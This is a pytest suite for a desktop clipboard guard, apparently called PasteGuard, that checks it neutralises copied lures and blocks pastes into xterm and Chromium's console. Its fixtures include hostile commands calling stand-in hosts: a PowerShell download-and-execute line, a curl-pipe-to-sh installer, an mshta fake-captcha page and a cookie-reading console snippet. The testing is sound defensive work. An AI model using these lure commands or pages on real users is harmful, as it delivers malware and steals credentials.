"""The guard as a person meets it, on a real X desktop: clipboard, xterm, and a real Chromium page."""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from app import ipc
from app.guard.neutralize import COMMAND_LINE, neutral_line
from tests.desktop import BIN, Desktop, desktop, serving, wait_for

pytestmark = pytest.mark.desktop

MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"

SCAM = (
    "Your Norton subscription has been renewed for $499.99. If you did not authorize this "
    "charge call our billing desk at +1 (808) 555-0147 within 24 hours to cancel."
)
NO_TRAY_LINE = neutral_line("command", COMMAND_LINE)  # `run --no-tray`: no tray to point at


def pasteguard(
    d: Desktop, data: Path, *args: str, timeout: float = 10
) -> subprocess.CompletedProcess[str]:
    return d.run(str(BIN / "pasteguard"), *args, "--data-dir", str(data), timeout=timeout)


def events(d: Desktop, data: Path) -> list[dict[str, object]]:
    result = pasteguard(d, data, "export", "--format", "jsonl")
    return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]


def neutralized(d: Desktop, data: Path) -> int:
    return [e["kind"] for e in events(d, data)].count("clipboard_neutralized")


@pytest.fixture(scope="module")
def screen() -> Iterator[Desktop]:
    """One Xvfb and openbox for the module's tests (each `guard` gets it fresh and leaves it
    empty): starting them took ~0.2 s a test, a guard of its own is what each test needs."""
    with desktop() as d:
        yield d


@pytest.fixture
def guard(screen: Desktop, tmp_path: Path) -> Iterator[tuple[Desktop, Path]]:
    data = tmp_path / "data"
    log_path = tmp_path / "guard.log"
    screen.clean()  # no window or clipboard owner of an earlier test is left
    d = screen.fresh()
    with log_path.open("wb") as log:
        d.env["PASTEGUARD_CONFIG_DIR"] = str(tmp_path / "config")
        d.env["PASTEGUARD_POLICY"] = str(tmp_path / "no-policy.toml")
        try:
            d.start(
                str(BIN / "pasteguard"),
                "run",
                "--no-tray",
                "--data-dir",
                str(data),
                stdout=log,
                stderr=log,
            )
            try:
                wait_for(lambda: serving(data), timeout=20, step=0.1)
            except TimeoutError:
                pytest.fail("the guard did not start:\n" + log_path.read_text(errors="replace"))
            yield d, data
        finally:
            d.stop()  # SIGTERM: the guard stops cleanly before its log closes
    screen.clean()


def test_a_malicious_clipboard_is_replaced_within_300_ms_and_logged(
    guard: tuple[Desktop, Path],
) -> None:
    d, data = guard
    d.set_clipboard(MALICIOUS)
    start = time.monotonic()
    wait_for(lambda: d.clipboard() == NO_TRAY_LINE, timeout=5, step=0.01)
    assert time.monotonic() - start < 0.3
    kinds = [e["kind"] for e in events(d, data)]
    assert "clipboard_neutralized" in kinds
    # restoring goes through the warning, with the friction of "Paste anyway": no bypass
    restored = pasteguard(d, data, "restore", "--last")
    assert restored.returncode == 0, restored.stderr
    wait_for(
        lambda: "PasteGuard warning" in d.run("xdotool", "getactivewindow", "getwindowname").stdout,
        timeout=5,
    )
    assert d.clipboard() == NO_TRAY_LINE
    assert "restored" not in [e["kind"] for e in events(d, data)]
    # a scam text: the line says so (not "a dangerous command"); the holder serves it, and the
    # guard knows it as its own write (judged once, one event)
    d.run("xdotool", "key", "Escape")
    d.set_clipboard(SCAM)
    scam_line = neutral_line("scam-text", COMMAND_LINE)
    wait_for(lambda: d.clipboard() == scam_line, timeout=5, step=0.01)
    # the event is written by the store's thread after the line is served: wait for it, then
    # give a second judgement of the guard's own line its chance to show
    wait_for(lambda: neutralized(d, data) >= 2, timeout=5, step=0.05)
    time.sleep(0.3)
    assert neutralized(d, data) == 2 and d.clipboard() == scam_line
    # the policy changes the language while it runs: the next line speaks it (it was English
    # in every language, and only a start changed the language), and the guard knows it as
    # its own write when the holder serves it (still one event per text)
    Path(d.env["PASTEGUARD_POLICY"]).write_text('language = "ja"\n', encoding="utf-8")
    wait_for(lambda: any(e.get("details", {}).get("reloaded") for e in events(d, data)),
             timeout=10, step=0.2)  # fmt: skip
    # another address: the same text again within 5 s of its last write would be counted in
    # the first write's event (a page rewriting the clipboard in a loop), not logged anew
    d.set_clipboard(MALICIOUS.replace("evil.test", "evil-two.test"))
    japanese = neutral_line("command", COMMAND_LINE, "ja")
    wait_for(lambda: d.clipboard() == japanese, timeout=5, step=0.02)
    wait_for(lambda: neutralized(d, data) >= 3, timeout=5, step=0.05)
    time.sleep(0.3)
    assert neutralized(d, data) == 3 and d.clipboard() == japanese


def analysis(d: Desktop, data: Path) -> dict[str, object]:
    status = json.loads(pasteguard(d, data, "status").stdout or "{}")
    return dict(status.get("analysis") or {})


def test_a_crash_of_the_analysis_process_costs_one_reading_not_the_guard(
    guard: tuple[Desktop, Path],
) -> None:
    """A native parser's segfault kills the analysis process, never the guard: the next lure
    is still read in full, blocked and logged, and `status` shows the restart."""
    d, data = guard
    before = analysis(d, data)  # `status` succeeds once the analysis process is ready too
    assert before["state"] == "ready" and isinstance(before["ready_ms"], int)
    assert before["restarts"] == 0 and isinstance(before["pid"], int)
    os.kill(before["pid"], signal.SIGSEGV)
    d.set_clipboard(MALICIOUS)
    wait_for(lambda: d.clipboard() == NO_TRAY_LINE, timeout=30, step=0.02)
    (event,) = [e for e in events(d, data) if e["kind"] == "clipboard_neutralized"]
    assert event["level"] == "malicious"
    assert "PG-ENGINE-INCOMPLETE" not in event["rules"]  # the full reading, not the fallback
    after = analysis(d, data)
    assert after["restarts"] == 1 and after["failures"] == 1 and after["patterns_only"] == 0
    assert after["last_failure"] == "the analysis process was killed by SIGSEGV"
    assert after["pid"] != before["pid"] and after["state"] == "ready"
    # and when the guard stops, its analysis process goes with it
    guard_pid = json.loads(pasteguard(d, data, "status").stdout)["pid"]
    os.kill(guard_pid, signal.SIGTERM)
    wait_for(lambda: not Path(f"/proc/{guard_pid}").exists() or zombie(guard_pid), timeout=15)
    wait_for(lambda: not Path(f"/proc/{after['pid']}").exists(), timeout=10)


def zombie(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0] == "Z"
    except FileNotFoundError:
        return True


def counts(data: Path) -> dict[str, int]:
    """The guard's own counts (`status`, asked from this process): texts analysed, taken off
    the clipboard..."""
    answer = ipc.request(data, {"cmd": "status"}) or {}
    return dict(answer.get("counts") or {})


def test_ordinary_text_is_left_alone_and_not_logged(guard: tuple[Desktop, Path]) -> None:
    d, data = guard
    analysed = counts(data).get("analysed", 0)
    d.set_clipboard("Lunch at noon? The usual place.")
    # the barrier: the guard has judged it (a clean text is done with then), not a fixed 0.6 s
    wait_for(lambda: counts(data).get("analysed", 0) > analysed, timeout=10)
    assert d.clipboard() == "Lunch at noon? The usual place."
    assert not [e for e in events(d, data) if e["kind"].startswith("clipboard")]  # type: ignore[union-attr]


OWNER = """
import sys
from PySide6.QtCore import QMimeData, QTimer
from PySide6.QtWidgets import QApplication
app = QApplication([])
data = QMimeData()
data.setText(sys.argv[1])
data.setData("x-kde-passwordManagerHint", b"secret")
app.clipboard().setMimeData(data)
print("owned", flush=True)
QTimer.singleShot(20000, app.quit)
app.exec()
"""


def test_a_password_manager_item_is_never_stored(
    guard: tuple[Desktop, Path], tmp_path: Path
) -> None:
    d, data = guard
    secret = "hunter2-VERY-SECRET mshta https://evil.test/x"  # malicious-looking, still a secret
    owner = d.start(str(BIN / "python"), "-c", OWNER, secret, stdout=subprocess.PIPE)
    assert owner.stdout is not None
    before = counts(data)
    with owner.stdout:
        assert owner.stdout.readline().strip() == b"owned"
    assert d.clipboard() == secret
    # the barrier (it was a fixed 0.8 s): a known lure after it, taken off the clipboard
    d.set_clipboard(MALICIOUS)
    lure = hashlib.sha256(MALICIOUS.encode()).hexdigest()

    def logged() -> list[dict[str, object]]:
        return [e for e in events(d, data) if str(e["kind"]).startswith("clipboard")]

    wait_for(lambda: any(e["sha256"] == lure for e in logged()), timeout=10, step=0.1)
    # the secret was never even analysed, let alone neutralised or logged: only the lure was
    (event,) = logged()
    assert event["sha256"] == lure and event["kind"] == "clipboard_neutralized"
    assert counts(data).get("analysed", 0) == before.get("analysed", 0) + 1
    for path in data.rglob("*"):
        if path.is_file():
            assert b"VERY-SECRET" not in path.read_bytes(), path


def test_a_suspicious_paste_into_xterm_never_reaches_the_terminal(
    guard: tuple[Desktop, Path], tmp_path: Path
) -> None:
    d, data = guard
    log = tmp_path / "xterm.log"
    d.start(
        "xterm",
        "-xrm",
        "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: insert-selection(CLIPBOARD)",
        "-l",
        "-lf",
        str(log),
        "-e",
        "bash",
        "--norc",
        stderr=subprocess.DEVNULL,
    )
    wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)
    d.set_clipboard(SUSPICIOUS)
    wait_for(lambda: held(d, data), timeout=10, step=0.05)  # judged and held (was 0.5 s)
    d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
    d.run("xdotool", "key", "ctrl+shift+v")
    # the warning comes up focused; Esc is "Keep me safe", and the terminal gets the keys again
    wait_for(
        lambda: "PasteGuard warning" in d.run("xdotool", "getactivewindow", "getwindowname").stdout,
        timeout=5,
    )
    d.run("xdotool", "key", "Escape")
    d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
    time.sleep(0.2)
    d.run("xdotool", "type", "echo MARKER-DONE")
    d.run("xdotool", "key", "Return")
    wait_for(lambda: log.exists() and "MARKER-DONE" in log.read_text(errors="replace"), timeout=10)
    assert "unknown-vendor" not in log.read_text(errors="replace")

    def pastes() -> list[dict[str, object]]:
        return [e for e in events(d, data) if e["kind"] in ("paste_blocked", "paste_warned")]

    wait_for(pastes, timeout=10, step=0.2)  # one event per paste, once it has settled
    (paste,) = pastes()
    assert paste["target"] == "terminal" and paste["kind"] == "paste_blocked"
    assert (
        d.run("xclip", "-o", "-selection", "clipboard").stdout == SUSPICIOUS
    )  # editors still get it


# "ready" in the title once the page has drawn a frame (two animation frames after load): what
# the tests wait for before they click, instead of a fixed 2 s
PAGE = b"""<!doctype html><html><head><title>loading</title></head><body style="margin:0"
 onload="requestAnimationFrame(()=>requestAnimationFrame(()=>document.title='ready'))">
<button id="b" style="width:100vw;height:100vh;font-size:40px"
 onclick="navigator.clipboard.writeText(document.getElementById('p').textContent).then(()=>document.title='copied')">
I am not a robot</button>
<pre id="p" style="display:none">mshta https://evil.test/verify/captcha</pre></body></html>"""


def test_a_real_chromium_page_that_writes_the_clipboard_is_named_as_the_source(
    guard: tuple[Desktop, Path], tmp_path: Path
) -> None:
    d, data = guard
    chromium = shutil.which("chromium")
    assert chromium, "Debian's chromium is missing: `make test` installs it"

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/verify"
    try:
        d.start(
            chromium,
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-features=Translate",
            f"--user-data-dir={tmp_path / 'chrome'}",
            "--window-position=0,0",
            "--window-size=1280,800",
            f"--app={url}",
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        wait_for(
            lambda: d.run("xdotool", "search", "--class", "chromium").stdout.strip(),
            timeout=30,
            step=0.2,
        )
        wait_for(lambda: "ready" in chromium_title(d), timeout=30, step=0.1)
        d.run("xdotool", "mousemove", "640", "400", "click", "1")
        wait_for(
            lambda: any(e["kind"] == "clipboard_neutralized" for e in events(d, data)),
            timeout=15,
            step=0.2,
        )
        event = next(e for e in events(d, data) if e["kind"] == "clipboard_neutralized")
        assert event["level"] == "malicious"
        assert event["source"] == url
    finally:
        server.shutdown()
        server.server_close()


def start_xterm(d: Desktop, log: Path) -> None:
    d.start(
        "xterm",
        "-xrm",
        "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: insert-selection(CLIPBOARD)",
        "-l",
        "-lf",
        str(log),
        "-e",
        "bash",
        "--norc",
        stderr=subprocess.DEVNULL,
    )
    wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)


def held(d: Desktop, data: Path) -> bool:
    """The guard holds the clipboard (`status`, asked from this process: a poll a Python
    start-up was ~0.4 s under load)."""
    status = ipc.request(data, {"cmd": "status"}) or {}
    current = status.get("current") or {}
    return bool(current.get("held"))


def paste_into_xterm(d: Desktop) -> None:
    d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
    d.run("xdotool", "key", "ctrl+shift+v")


def warning_up(d: Desktop) -> bool:
    return "PasteGuard warning" in d.run("xdotool", "getactivewindow", "getwindowname").stdout


def typed_marker(d: Desktop, log: Path, marker: str) -> None:
    """A barrier: the terminal took what was typed after the paste (so the paste was handled)."""
    d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
    time.sleep(0.2)
    d.run("xdotool", "type", f"echo {marker}")
    d.run("xdotool", "key", "Return")
    wait_for(lambda: log.exists() and marker in log.read_text(errors="replace"), timeout=10)


def test_a_suspicious_text_copied_a_second_time_is_judged_and_held_again(
    guard: tuple[Desktop, Path], tmp_path: Path
) -> None:
    d, data = guard
    log = tmp_path / "xterm.log"
    start_xterm(d, log)
    d.set_clipboard(SUSPICIOUS)
    wait_for(lambda: held(d, data), timeout=10, step=0.1)
    d.set_clipboard("something else entirely")
    wait_for(lambda: not held(d, data), timeout=10, step=0.1)
    d.set_clipboard(SUSPICIOUS)  # the same text again, from another program
    wait_for(lambda: held(d, data), timeout=10, step=0.1)
    paste_into_xterm(d)
    wait_for(lambda: warning_up(d), timeout=5)
    d.run("xdotool", "key", "Escape")
    typed_marker(d, log, "MARKER-AGAIN")
    assert "unknown-vendor" not in log.read_text(errors="replace")
    # held again (above), and counted in the first copy's event: the same text from the same
    # source again within seconds is one event (a page writing it in a loop floods otherwise)
    flagged = [e for e in events(d, data) if e["kind"] == "clipboard_flagged"]
    assert len(flagged) == 1


def test_paste_anyway_lets_the_next_paste_through_at_once_and_the_guard_keeps_answering(
    guard: tuple[Desktop, Path], tmp_path: Path
) -> None:
    d, data = guard
    log = tmp_path / "xterm.log"
    start_xterm(d, log)
    d.set_clipboard(SUSPICIOUS)
    wait_for(lambda: held(d, data), timeout=10, step=0.1)
    paste_into_xterm(d)
    wait_for(lambda: warning_up(d), timeout=5)
    time.sleep(1.0)  # past the reflex guard
    d.run("xdotool", "key", "Tab")  # from "Keep me safe" to "Paste anyway"
    d.run("xdotool", "key", "space")
    wait_for(lambda: not warning_up(d), timeout=5)
    # the guard answers at once (it froze for 12-14 s), and the clipboard is not dead
    begin = time.monotonic()
    assert pasteguard(d, data, "status", timeout=3).returncode == 0
    answered = time.monotonic() - begin
    assert d.clipboard() == SUSPICIOUS
    paste_into_xterm(d)
    wait_for(lambda: "unknown-vendor" in log.read_text(errors="replace"), timeout=10)
    assert answered < 3
    allowed = [e for e in events(d, data) if e["kind"] == "paste_allowed_by_user"]
    assert len(allowed) == 1


def test_without_a_tray_sigterm_really_quits(screen: Desktop, tmp_path: Path) -> None:
    data = tmp_path / "data"
    screen.clean()
    d = screen.fresh()
    try:
        with (tmp_path / "guard.log").open("wb") as log:
            d.env["PASTEGUARD_CONFIG_DIR"] = str(tmp_path / "config")
            d.env["PASTEGUARD_POLICY"] = str(tmp_path / "no-policy.toml")
            # no --no-tray: Xvfb has no tray, so the status window stands in for it
            guard = d.start(str(BIN / "pasteguard"), "run", "--data-dir", str(data),
                            stdout=log, stderr=log)  # fmt: skip
        wait_for(lambda: serving(data), timeout=20, step=0.1)
        wait_for(lambda: d.run("xdotool", "search", "--name", "^PasteGuard: ").stdout.strip(),
                 timeout=10)  # fmt: skip
        guard.terminate()
        try:
            code = guard.wait(timeout=10)
        except subprocess.TimeoutExpired:
            pytest.fail("SIGTERM only minimised the status window; the guard kept running")
        assert code == 0
        assert pasteguard(d, data, "status").returncode == 1
    finally:
        d.stop()
    screen.clean()


CONSOLE_SNIPPET = "console.log(document.cookie); document.title+=' PWNED'"
CONSOLE_PAGE = (
    b"""<!doctype html><html><head><title>Verify</title></head><body style="margin:0"
 onload="requestAnimationFrame(()=>requestAnimationFrame(()=>document.title='Verify ready'))">
<button id="b" style="width:100vw;height:100vh;font-size:40px"
 onclick="navigator.clipboard.writeText(document.getElementById('p').textContent)">
Fix the error: paste this into the console</button>
<pre id="p" style="display:none">"""
    + CONSOLE_SNIPPET.encode()
    + b"""</pre></body></html>"""
)


def serve(page: bytes) -> tuple[http.server.ThreadingHTTPServer, str]:
    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_port}/verify"


def start_chromium(d: Desktop, profile: Path, *args: str) -> None:
    chromium = shutil.which("chromium")
    assert chromium, "Debian's chromium is missing: `make test` installs it"
    d.start(
        chromium, "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--disable-features=Translate", f"--user-data-dir={profile}",
        "--window-position=0,0", "--window-size=1280,800", *args,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    wait_for(lambda: d.run("xdotool", "search", "--class", "chromium").stdout.strip(),
             timeout=30, step=0.2)  # fmt: skip


def chromium_title(d: Desktop) -> str:
    found = d.run("xdotool", "search", "--onlyvisible", "--class", "chromium", "getwindowname")
    return found.stdout


def test_a_paste_into_the_chromium_devtools_console_is_refused_and_nothing_runs(
    guard: tuple[Desktop, Path], tmp_path: Path
) -> None:
    d, data = guard
    server, url = serve(CONSOLE_PAGE)
    try:
        # Chromium's own "allow pasting" warning is off: the guard must stop the paste itself
        start_chromium(d, tmp_path / "chrome", "--unsafely-disable-devtools-self-xss-warnings", url)
        wait_for(lambda: "Verify ready" in chromium_title(d), timeout=30, step=0.1)  # drawn
        d.run("xdotool", "mousemove", "640", "400", "click", "1")  # the page copies the snippet
        wait_for(lambda: held(d, data), timeout=15, step=0.1)
        d.run("xdotool", "key", "ctrl+shift+j")  # DevTools, docked, console focused
        time.sleep(3.0)  # DevTools loads its front end
        d.run("xdotool", "key", "ctrl+v")
        wait_for(lambda: warning_up(d), timeout=10)
        d.run("xdotool", "key", "Escape")
        # back in the console: Enter runs whatever sits in its input, then a barrier that runs
        d.run("xdotool", "search", "--onlyvisible", "--class", "chromium", "windowactivate",
              "--sync")  # fmt: skip
        time.sleep(0.5)
        d.run("xdotool", "key", "Return")
        d.run("xdotool", "type", "document.title+=' ALIVE'")
        d.run("xdotool", "key", "Return")
        wait_for(lambda: "ALIVE" in chromium_title(d), timeout=10)
        assert "PWNED" not in chromium_title(d)  # the snippet never reached the console

        def pastes() -> list[dict[str, object]]:
            return [e for e in events(d, data) if str(e["kind"]).startswith("paste_")]

        wait_for(pastes, timeout=10, step=0.2)
        (paste,) = pastes()  # one paste, one event
        assert paste["target"] == "browser_console" and paste["kind"] == "paste_blocked"
        assert paste["source"] == url
    finally:
        server.shutdown()
        server.server_close()


def test_a_text_too_large_to_hold_is_left_to_its_owner_and_editors_get_all_of_it(
    guard: tuple[Desktop, Path],
) -> None:
    d, data = guard
    # 300 KiB of build log ending in an installer line: suspicious, larger than the holder serves
    big = "".join(f"[{i:06d}] compiling module {i}\n" for i in range(10_500)) + SUSPICIOUS + "\n"
    assert len(big.encode()) > 300 * 1024
    d.set_clipboard(big)

    def judged() -> dict[str, object] | None:
        status = json.loads(pasteguard(d, data, "status").stdout or "{}")
        current = status.get("current")
        return current if isinstance(current, dict) and current.get("level") else None

    current = wait_for(judged, timeout=20, step=0.2)  # the barrier: the guard read it all
    assert isinstance(current, dict) and current["level"] == "suspicious"
    assert current["held"] is False
    assert d.clipboard() == big  # an editor gets what was copied, every byte
